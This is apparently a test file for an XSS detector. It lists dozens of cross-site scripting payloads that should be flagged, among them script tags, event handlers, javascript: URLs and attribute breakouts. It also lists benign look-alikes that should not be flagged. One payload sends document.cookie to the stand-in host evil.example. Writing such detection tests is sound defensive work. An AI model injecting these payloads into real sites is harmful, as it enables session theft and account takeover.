/**
 * Cross-site scripting: tags that run script, event handlers, script URLs, breaking out of
 * an attribute or a JavaScript string, next to text with angle brackets, ampersands,
 * colons and parentheses.
 */
import { attacks, benign } from './helpers';

describe('detection: XSS', () => {
  describe('tags and event handlers', () => {
    attacks('xss', [
      '<script>alert(document.domain)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<img src=x onerror=prompt(1)>',
      '<svg/onload=confirm`1`>',
      '<body onpageshow=alert(1)>',
      '<details open ontoggle=print()>',
      '<custom-tag onfocus=alert(1) autofocus tabindex=1>',
      '<iframe src="https://evil.example"></iframe>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<input autofocus onfocus=alert(1)>',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<div style="background:url(javascript:alert(1))">',
      '<p style="width: expression(alert(1))">',
      '<base href="javascript:/a/-alert(1)///////">',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '"><svg onload=alert(1)>',
      '</textarea><script>alert(1)</script>',
      '<h1>Hacked</h1>',
    ]);
  });
  describe('outside tags', () => {
    attacks('xss', [
      'javascript:alert(1)',
      'JaVaScRiPt:fetch("//evil.example?c="+document.cookie)',
      ' javascript://%0aalert(1)',
      'data:text/html,<script>alert(1)</script>',
      '" onmouseover="alert(1)',
      "' autofocus onfocus=alert(1) x='",
      "';alert(String.fromCharCode(88,83,83))//",
      '"-confirm(1)-"',
      '</script><img src=x onerror=alert(1)>',
      '{{constructor.constructor(\'alert(1)\')()}}',
      '${alert(1)}',
      'alert(document.cookie)',
      'x onerror="alert(1)"',
    ]);
  });
  describe('HTML-injection probes count in request values; the same formatting in a typed answer does not', () => {
    attacks('xss', ['<h1>INJECTX</h1>', 'Use <b>bold</b> for headings.', '<p>hello</p>'], 'text');
    attacks('xss', ['<h1>INJECTX</h1>'], 'query');
    benign(['Use <b>bold</b> for headings.', '<p>hello</p>', '<h1>Title</h1> then <em>text</em>'], 'answer');
    attacks('xss', ['<b onmouseover=alert(1)>x</b>', '<img src=x onerror=alert(1)>', '<div class="x" style="width:expression(alert(1))">'], 'answer');
  });

  describe('benign look-alikes', () => {
    benign([
      'I <3 NY',
      'a<b',
      'if a < b and c > d then',
      'x > 5 && y < 3',
      'Tom & Jerry',
      'AT&T and R&D',
      '<nick> hello there',
      'Contact: John <john@example.com>',
      'List<String> names = new ArrayList<>();',
      'JavaScript: The Good Parts',
      'Note: meeting at 10:30 (room 4)',
      'https://example.com/search?q=onload&page=2',
      'onload meaning',
      'iframe vs embed',
      'cross site scripting explained',
      'confirm email not received',
      'eval meaning in math',
      '{{name}}',
      'Hello ${name}',
      'The function alert is used for warnings',
      ':-) ;-) <3',
      'Ratio 1:2 (approx.)',
      'class Range { constructor(from, to) { this.from = from; } }',
      "if (window.confirm) { ask('Delete?') }",
    ]);
  });
});
